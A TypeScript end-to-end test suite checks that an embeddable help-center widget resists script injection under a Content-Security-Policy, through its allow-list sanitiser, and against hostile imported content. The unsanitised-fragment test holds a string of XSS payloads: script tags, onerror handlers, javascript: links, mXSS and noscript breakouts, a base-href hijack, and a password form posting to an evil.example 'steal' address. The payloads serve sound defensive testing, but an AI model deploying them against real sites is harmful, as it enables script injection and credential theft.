/**
 * The in-product widget is never a way into the product that embeds it (security issue 23).
 * - Under the Content-Security-Policy of docs/in-product-help.md, sent as a real header by the
 *   product page: the widget opens, searches, shows an article, takes a vote and opens its contact
 *   form, with no violation.
 * - A fragment the build did not sanitise (served in place of a real one): the widget's own
 *   allow-list (src/widget/safe-dom.ts) leaves nothing that runs, loads or submits.
 * - Hostile imports: every hostile fixture (test/fixtures/import-hostile-<format>) imported into
 *   one site, built once; every page of it opened, and every imported article opened in the widget
 *   on another origin: no dialog, no injected element, no request to any other origin.
 */
import { existsSync, readdirSync, readFileSync, rmSync } from 'node:fs';
import http from 'node:http';
import path from 'node:path';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { runCli } from '../../src/cli/index.ts';
import { buildSite, REPO_ROOT } from '../helpers/build-site.ts';
import { getE2eEnv, launchBrowser } from './helpers/browser.ts';
import { waitForVotes } from './helpers/feedback.ts';
import { getFreePort } from './helpers/processes.ts';
import { startStaticHost, type StaticHost } from './helpers/static-host.ts';

const env = getE2eEnv();
const FORMATS = ['zendesk', 'intercom', 'helpscout', 'freshdesk', 'document360'] as const;
const FIXTURES = path.join(REPO_ROOT, 'test/fixtures');
const HOSTILE_PROJECT = path.join(REPO_ROOT, '.cache', 'e2e-hostile-import');
/** Text only the product page has: a script that ran in the product's origin could read and send it. */
const PRODUCT_SECRET = 'account 4242-secret-canary';

/**
 * The policy docs/in-product-help.md gives a product page embedding the widget; `trustedTypes`
 * adds the Trusted Types enforcement it documents as optional.
 */
export function getWidgetCsp(helpOrigin: string, feedbackOrigin?: string, trustedTypes = false): string {
  return [
    "default-src 'self'",
    `script-src 'self' ${helpOrigin} 'wasm-unsafe-eval'`,
    `connect-src 'self' ${helpOrigin}${feedbackOrigin ? ` ${feedbackOrigin}` : ''}`,
    `img-src 'self' ${helpOrigin}`,
    "style-src 'self'",
    "frame-src 'none'",
    "object-src 'none'",
    "base-uri 'none'",
    "form-action 'self'",
    ...(trustedTypes ? ["require-trusted-types-for 'script'", 'trusted-types helpdesk-kit-widget'] : []),
  ].join('; ');
}

function productPage(helpUrl: string): string {
  return `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Parcelo app</title></head><body>
<main><h1>Parcelo app</h1><p id="secret">${PRODUCT_SECRET}</p>
<form id="ticket" action="/sent" method="get" data-help-center-deflect data-help-center-subject="#subject">
<label for="subject">Subject</label> <input id="subject" name="subject" autocomplete="off"> <button type="submit">Send</button>
</form></main>
<script src="${helpUrl}/widget.js" defer></script>
</body></html>`;
}

/** A product page server on `port` embedding the widget of `helpUrl`, with `csp` as its Content-Security-Policy header. */
function startProduct(port: number, helpUrl: string, csp: string | undefined): Promise<http.Server> {
  const server = http.createServer((_req, res) => {
    res.writeHead(200, {
      'content-type': 'text/html; charset=utf-8',
      ...(csp && { 'content-security-policy': csp }),
    });
    res.end(productPage(helpUrl));
  });
  return new Promise((resolve) => server.listen(port, '127.0.0.1', () => resolve(server)));
}

async function closeServer(server: http.Server | undefined): Promise<void> {
  if (!server) return;
  server.closeAllConnections();
  await new Promise((resolve) => server.close(resolve));
}

interface Watch {
  dialogs: string[];
  /** Requests to an origin outside the allowed ones: "<resource type> <url> from <page>". */
  foreign: string[];
  /** CSP violations, from the `securitypolicyviolation` event and from the console. */
  violations: string[];
  errors: string[];
}

/** A context that records dialogs, requests outside `origins` and CSP violations of every page. */
async function watchedContext(browser: Browser, baseURL: string, origins: string[]): Promise<[BrowserContext, Watch]> {
  const watch: Watch = { dialogs: [], foreign: [], violations: [], errors: [] };
  const context = await browser.newContext({ baseURL, viewport: { width: 1280, height: 800 } });
  await context.exposeBinding('reportCspViolation', (_source, text: string) => void watch.violations.push(text));
  await context.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', (e) =>
      (window as unknown as { reportCspViolation(t: string): void }).reportCspViolation(
        `${e.effectiveDirective} blocked ${e.blockedURI || 'inline'} (${e.sourceFile}:${e.lineNumber})`,
      ),
    );
  });
  context.on('page', (page) => watchPage(page, origins, watch));
  return [context, watch];
}

function watchPage(page: Page, origins: string[], watch: Watch): void {
  page.on('dialog', (dialog) => {
    watch.dialogs.push(`${dialog.type()}: ${dialog.message()} on ${page.url()}`);
    void dialog.dismiss();
  });
  page.on('request', (request) => {
    const url = new URL(request.url());
    if (url.protocol === 'data:' || url.protocol === 'blob:') return;
    if (!origins.includes(url.origin))
      watch.foreign.push(`${request.resourceType()} ${request.url()} from ${page.url()}`);
  });
  page.on('console', (message) => {
    if (/Content.Security.Policy|Refused to/i.test(message.text())) watch.violations.push(message.text());
  });
  page.on('pageerror', (err) => watch.errors.push(`${err.message} on ${page.url()}`));
}

/**
 * What in `selector` (inside the widget's shadow root when `inWidget`) can run, load, submit or
 * leave: elements that do, event handler attributes, script URLs.
 */
function findInjected(page: Page, selector: string, inWidget: boolean): Promise<string[]> {
  return page.evaluate(
    ({ selector, inWidget }) => {
      const root: ParentNode = inWidget ? document.querySelector('help-center')!.shadowRoot! : document;
      const found: string[] = [];
      const forbidden =
        /^(script|iframe|frame|frameset|object|embed|applet|form|input|button|textarea|select|style|link|meta|base|svg|math|template|noscript|portal)$/;
      for (const scope of root.querySelectorAll(selector))
        for (const el of scope.querySelectorAll('*')) {
          if (forbidden.test(el.localName)) found.push(`<${el.localName}>`);
          for (const { name, value } of el.attributes) {
            if (/^on/i.test(name)) found.push(`<${el.localName} ${name}>`);
            if (
              name === 'srcdoc' ||
              (/^(href|src|action|formaction|data|xlink:href)$/i.test(name) &&
                /^\s*(javascript|vbscript|data):/i.test(value))
            )
              found.push(`<${el.localName} ${name}="${value}">`);
          }
        }
      return found;
    },
    { selector, inWidget },
  );
}

let browser: Browser;
beforeAll(async () => {
  browser = await launchBrowser();
});
afterAll(async () => {
  await browser?.close();
});

describe.each([
  {
    policy: 'the documented Content-Security-Policy',
    trustedTypes: false,
    query: 'change delivery address',
    path: '/orders-shipping/change-delivery-address/',
  },
  {
    // An article with a code block: Shiki's colour styles must not cost a violation either.
    policy: 'the documented policy with Trusted Types enforced',
    trustedTypes: true,
    query: 'download your data',
    path: '/privacy-security/download-your-data/',
  },
])('the widget under $policy', ({ trustedTypes, query, path: articlePath }) => {
  const feedbackOrigin = new URL(env.feedbackEndpoint).origin;
  const csp = getWidgetCsp(env.helpHostUrl, feedbackOrigin, trustedTypes);
  const itemId = `article:${articlePath.split('/').filter(Boolean).pop()}`;
  let product: http.Server;
  let context: BrowserContext;
  let watch: Watch;
  beforeAll(async () => {
    product = await startProduct(env.productPort, env.helpHostUrl, csp);
    [context, watch] = await watchedContext(browser, env.productUrl, [env.productUrl, env.helpHostUrl, feedbackOrigin]);
  });
  afterAll(async () => {
    await context?.close();
    await closeServer(product);
  });

  it('opens, searches, shows an article and stores its vote, with no violation and no foreign request', async () => {
    const page = await context.newPage();
    const response = await page.goto('/settings');
    expect(response?.headers()['content-security-policy']).toBe(csp);
    await page.locator('help-center .launcher').click();
    await page.locator('help-center input[type=search]').pressSequentially(query);
    await page
      .locator('help-center [data-status]')
      .filter({ hasText: `for “${query}”` })
      .waitFor();
    expect(await page.locator('help-center [data-list] .excerpt mark').count()).toBeGreaterThan(0);
    await page.locator(`help-center a.result[href="${env.helpHostUrl}${articlePath}"]`).click();
    await page.locator('help-center .article h1').waitFor();
    expect(await page.locator('help-center .article [data-html] p').count()).toBeGreaterThan(0);
    if (trustedTypes) expect(await page.locator('help-center .article [data-html] pre').count()).toBe(1);
    // The shadow root's styles apply (a constructed stylesheet, which style-src does not block).
    expect(await page.locator('help-center .panel').evaluate((el) => getComputedStyle(el).position)).toBe('fixed');
    await page.locator('help-center [data-answer-vote=up]').click();
    await page.locator('help-center [data-answer-status]').filter({ hasText: 'Thanks' }).waitFor();
    const votes = await waitForVotes(env.feedbackDb, (rows) => rows.some((r) => r.item_id === itemId));
    expect(votes.filter((r) => r.item_id === itemId).map((r) => r.vote)).toEqual(['up']);
    // The contact form's module and strings load under the same policy (script-src and connect-src
    // already name the help center): imported, not inlined, so no violation either.
    await page.locator('help-center [data-contact]').last().locator('[data-contact-open]').click();
    await page.locator('help-center [data-contact-form] textarea').waitFor();
    expect(watch.violations).toEqual([]);
    expect(watch.foreign).toEqual([]);
    expect(watch.errors).toEqual([]);
    expect(watch.dialogs).toEqual([]);
  });
});

describe('a fragment the build did not sanitise, on a product page without a CSP', () => {
  let product: http.Server;
  let context: BrowserContext;
  let watch: Watch;
  beforeAll(async () => {
    // No CSP: the widget's allow-list alone must hold. (Under a CSP the browser reports the
    // inert parse's handlers and styles as blocked: reports only, nothing there can run.)
    product = await startProduct(env.productPort, env.helpHostUrl, undefined);
    [context, watch] = await watchedContext(browser, env.productUrl, [
      env.productUrl,
      env.helpHostUrl,
      new URL(env.feedbackEndpoint).origin,
    ]);
  });
  afterAll(async () => {
    await context?.close();
    await closeServer(product);
  });

  it('is rebuilt by the allow-list: its text and safe links stay, nothing runs, loads or submits', async () => {
    const page = await context.newPage();
    const html =
      '<h2 id="steps">Steps</h2><p>Kept <strong>text</strong> and <a href="/account/reset-password/">a link</a>.</p>' +
      '<script>alert(1)</script><img src=x onerror="alert(document.getElementById(\'secret\').textContent)">' +
      '<svg><script>alert(2)</script><a href="javascript:alert(3)"><text>svg link</text></a></svg>' +
      '<p onclick="alert(4)" style="background:url(https://evil.example/bg.png)">Styled <a href="javascript:alert(5)">js link</a>' +
      ' <a href="java&#x09;script:alert(6)">tab link</a> <a href="https://evil.example/phish">outside link</a></p>' +
      '<iframe srcdoc="<script>alert(7)</script>"></iframe><object data="https://evil.example/x"></object>' +
      '<form action="https://evil.example/steal"><input name="password" autofocus onfocus="alert(8)"><button>Sign in</button></form>' +
      '<img src="https://evil.example/pixel.gif" alt="pixel"><img src="/images/logo.svg" alt="Logo">' +
      '<div class="launcher callout" id="hc1-title" role="dialog">Fake launcher</div>' +
      '<math><mtext><table><mglyph><style><img src=x onerror=alert(9)></style></mglyph></table></mtext></math>' +
      '<noscript><p title="</noscript><img src=x onerror=alert(10)>"></p></noscript>' +
      '<details open ontoggle="alert(11)"><summary>More</summary>Inside</details><base href="https://evil.example/">';
    await page.route(`${env.helpHostUrl}/widget/article/hostile-test.json`, (route) =>
      route.fulfill({
        contentType: 'application/json',
        headers: { 'access-control-allow-origin': env.productUrl },
        body: JSON.stringify({
          id: 'article:hostile-test',
          kind: 'article',
          title: '<img src=x onerror=alert(12)>Title',
          description: '<script>alert(13)</script>',
          path: 'javascript:alert(14)',
          html,
        }),
      }),
    );
    await page.goto('/product');
    await page.locator('help-center .launcher').waitFor();
    await page.evaluate(() =>
      (
        document.querySelector('help-center') as HTMLElement & { openItem(k: string, s: string): Promise<void> }
      ).openItem('article', 'hostile-test'),
    );
    await page.locator('help-center .article h1').waitFor();
    await page.waitForTimeout(300);

    expect(await findInjected(page, '.article', true)).toEqual([]);
    const body = page.locator('help-center [data-html]');
    expect(await body.evaluate((el) => el.innerHTML)).toBe(
      `<h2 id="steps">Steps</h2><p>Kept <strong>text</strong> and <a href="${env.helpHostUrl}/account/reset-password/" target="_blank" rel="noopener noreferrer">a link</a>.</p>` +
        // src="x" is a (missing) file of the help center: allowed, and without its onerror.
        `<img src="${env.helpHostUrl}/x">` +
        '<p>Styled <a target="_blank" rel="noopener noreferrer">js link</a> <a target="_blank" rel="noopener noreferrer">tab link</a> ' +
        '<a href="https://evil.example/phish" target="_blank" rel="noopener noreferrer">outside link</a></p>' +
        `<img alt="pixel"><img src="${env.helpHostUrl}/images/logo.svg" alt="Logo">` +
        '<div class="callout">Fake launcher</div><details open=""><summary>More</summary>Inside</details>',
    );
    expect(await page.locator('help-center .article h1').innerText()).toBe('<img src=x onerror=alert(12)>Title');
    expect(await page.locator('help-center .article .muted').innerText()).toBe('<script>alert(13)</script>');
    expect(await page.locator('help-center a', { hasText: 'Open in the help center' }).getAttribute('href')).toBeNull();
    expect(watch.dialogs).toEqual([]);
    expect(watch.foreign).toEqual([]);
    expect(watch.errors).toEqual([]);
  });
});

describe('hostile imports, built into one site', () => {
  let host: StaticHost;
  let product: http.Server;
  let productUrl: string;
  let outDir: string;
  let context: BrowserContext;
  let watch: Watch;
  /** Every article and FAQ answer the widget can show: [kind, slug]. */
  let items: Array<readonly ['article' | 'faq', string]> = [];
  /** A word of an imported article's title, to search for: its excerpt comes from hostile content. */
  let searchWord = '';

  beforeAll(async () => {
    const missing = FORMATS.filter((f) => !existsSync(path.join(FIXTURES, `import-hostile-${f}`)));
    if (missing.length > 0)
      throw new Error(
        `Missing hostile import fixtures: ${missing.map((f) => `test/fixtures/import-hostile-${f}`).join(', ')}`,
      );
    const productPort = await getFreePort();
    const hostPort = await getFreePort();
    productUrl = `http://127.0.0.1:${productPort}`;
    rmSync(HOSTILE_PROJECT, { recursive: true, force: true });
    for (const from of FORMATS) {
      const dir = path.join(FIXTURES, `import-hostile-${from}`);
      const zip = readdirSync(dir).find((f) => f.endsWith('.zip'));
      let output = '';
      const write = (t: string) => void (output += t);
      const io = { stdout: { write }, stderr: { write }, cwd: HOSTILE_PROJECT, env: {} };
      const code = await runCli(['import', zip ? path.join(dir, zip) : dir, '--from', from], io);
      if (code !== 0) throw new Error(`import --from ${from} exited ${code}:\n${output}`);
    }
    const build = buildSite('e2e-hostile', path.join(HOSTILE_PROJECT, 'content'), {
      HELP_CENTER_PUBLIC_DIR: path.join(HOSTILE_PROJECT, 'public'),
      HELP_CENTER_WIDGET_ORIGINS: productUrl,
    });
    if (build.status !== 0) throw new Error(`Building the hostile import site failed:\n${build.output}`);
    outDir = build.outDir;
    items = (['article', 'faq'] as const).flatMap((kind) => {
      const dir = path.join(outDir, 'widget', kind);
      return existsSync(dir)
        ? readdirSync(dir)
            .filter((f) => f.endsWith('.json'))
            .map((f) => [kind, f.slice(0, -'.json'.length)] as const)
        : [];
    });
    const [kind, slug] = items[0]!;
    const { title } = JSON.parse(readFileSync(path.join(outDir, 'widget', kind, `${slug}.json`), 'utf8')) as {
      title: string;
    };
    searchWord = title.split(/\W+/).sort((a, b) => b.length - a.length)[0]!;
    host = await startStaticHost(outDir, hostPort);
    product = await startProduct(productPort, host.url, getWidgetCsp(host.url));
  }, 240_000);
  beforeEach(async () => {
    [context, watch] = await watchedContext(browser, host.url, [host.url, productUrl]);
  });
  afterEach(async () => {
    await context?.close();
  });
  afterAll(async () => {
    await closeServer(product);
    await host?.stop();
  });

  it('shows every page of the site without running, loading or injecting anything', async () => {
    const pages = readdirSync(outDir, { recursive: true, withFileTypes: true })
      .filter((e) => e.isFile() && e.name.endsWith('.html'))
      .map((e) => `/${path.relative(outDir, path.join(e.parentPath, e.name)).split(path.sep).join('/')}`)
      .map((p) => p.replace(/index\.html$/, ''));
    expect(pages.length).toBeGreaterThan(items.length);
    const page = await context.newPage();
    const injected: string[] = [];
    for (const sitePath of pages) {
      const before = watch.foreign.length;
      await page.goto(sitePath, { waitUntil: 'load' });
      // An imported article may show an image from its old host (the import keeps plain images):
      // that request is the page's own. Any other request elsewhere is not.
      const images = await page.evaluate(() =>
        Array.from(document.querySelectorAll<HTMLImageElement>('.prose img, .faq-answer img'), (img) => img.src),
      );
      const found = watch.foreign.splice(before);
      watch.foreign.push(...found.filter((f) => !images.some((src) => f.startsWith(`image ${src} from `))));
      for (const found of await findInjected(page, '.prose, .faq-answer > div:first-child', false))
        injected.push(`${sitePath}: ${found}`);
    }
    // The site's own search shows the imported articles' excerpts.
    await page.goto(`/search/?q=${encodeURIComponent(searchWord)}`);
    await page.locator('[data-search-results] .result').first().waitFor({ timeout: 10_000 });
    for (const found of await findInjected(page, '[data-search-results]', false)) injected.push(`search: ${found}`);
    await page.close();
    expect(injected).toEqual([]);
    expect(watch.dialogs).toEqual([]);
    expect(watch.foreign).toEqual([]);
  }, 120_000);

  it('shows every imported article and FAQ in the widget on another origin without running, loading or injecting anything', async () => {
    expect(items.length).toBeGreaterThanOrEqual(FORMATS.length);
    const page = await context.newPage();
    await page.goto(`${productUrl}/app`);
    await page.locator('help-center .launcher').waitFor();
    const injected: string[] = [];
    for (const [kind, slug] of items) {
      const title = await page.evaluate(
        async ({ kind, slug }) => {
          const el = document.querySelector('help-center') as HTMLElement & {
            openItem(k: string, s: string): Promise<void>;
          };
          await el.openItem(kind, slug);
          return el.shadowRoot!.querySelector('.article h1')?.textContent ?? null;
        },
        { kind, slug },
      );
      expect(title, `${kind}:${slug}`).not.toBeNull();
      for (const found of await findInjected(page, '.article', true)) injected.push(`${kind}:${slug}: ${found}`);
    }
    // Search results and their excerpts in the widget.
    await page.locator('help-center [data-back]').click();
    await page.locator('help-center input[type=search]').pressSequentially(searchWord);
    await page
      .locator('help-center [data-status]')
      .filter({ hasText: `“${searchWord}”` })
      .waitFor({ timeout: 10_000 });
    expect(await page.locator('help-center [data-list] a.result').count()).toBeGreaterThan(0);
    for (const found of await findInjected(page, '[data-list]', true)) injected.push(`widget search: ${found}`);
    await page.waitForTimeout(300);
    expect(await page.locator('#secret').innerText()).toBe(PRODUCT_SECRET);
    expect(injected).toEqual([]);
    expect(watch.dialogs).toEqual([]);
    expect(watch.foreign).toEqual([]);
    expect(watch.violations).toEqual([]);
  }, 120_000);
});
